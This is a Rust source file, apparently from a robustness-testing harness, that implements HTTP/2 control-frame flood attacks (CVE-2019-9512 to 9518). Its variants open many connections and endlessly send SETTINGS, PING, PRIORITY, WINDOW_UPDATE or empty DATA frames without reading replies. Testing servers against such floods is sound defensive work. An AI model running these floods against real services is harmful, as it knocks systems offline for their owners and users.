//! Frames that ask nothing and are answered, or are nothing at all (CVE-2019-9512 to 9518).

use std::io;
use std::sync::Arc;

use futures_util::FutureExt;

use crate::attack::{Attack, By, Node, Variant};
use crate::attacker::Attacker;
use crate::wire::http2::{
    DATA, END_HEADERS, HEADERS, Http2, Method, NOTHING, PING, PRIORITY, SETTINGS, WINDOW_UPDATE, frame, head, stream,
};

pub(super) static ATTACK: Attack = Attack {
    name: "HTTP/2 control floods",
    by: By::Stranger,
    node: Node::EMBEDDED,
    variants: &[
        Variant { name: "SETTINGS, answers unread", act: |attacker| attacker.crowd(20, settings).boxed() },
        Variant { name: "PING, answers unread", act: |attacker| attacker.crowd(20, pings).boxed() },
        Variant { name: "PRIORITY", act: |attacker| attacker.crowd(20, priorities).boxed() },
        Variant { name: "WINDOW_UPDATE", act: |attacker| attacker.crowd(20, windows).boxed() },
        Variant { name: "empty DATA", act: |attacker| attacker.crowd(20, empty_data).boxed() },
    ],
};

/// The same bytes for as long as the node takes them. Nothing is read.
async fn flood(attacker: &Attacker, opening: &[u8], one: &[u8]) -> io::Result<()> {
    let mut connection = Http2::open(&attacker.dialer, &[]).await?;
    connection.send(opening).await?;
    let many = one.repeat(500);
    loop {
        connection.send(&many).await?;
    }
}

async fn settings(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    flood(&attacker, &[], &frame(SETTINGS, NOTHING, 0, &[])).await
}

async fn pings(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    flood(&attacker, &[], &frame(PING, NOTHING, 0, &[0; 8])).await
}

async fn priorities(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let of = |n| frame(PRIORITY, NOTHING, stream(n), &[0, 0, 0, 0, 16]);
    flood(&attacker, &[], &(0..1000).flat_map(of).collect::<Vec<_>>()).await
}

async fn windows(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    flood(&attacker, &[], &frame(WINDOW_UPDATE, NOTHING, 0, &[0, 0, 0, 1])).await
}

async fn empty_data(attacker: Arc<Attacker>, _: usize) -> io::Result<()> {
    let opening = frame(HEADERS, END_HEADERS, stream(0), &head(Method::Post, "/v1/enrollments", &[]));
    flood(&attacker, &opening, &frame(DATA, NOTHING, stream(0), &[])).await
}
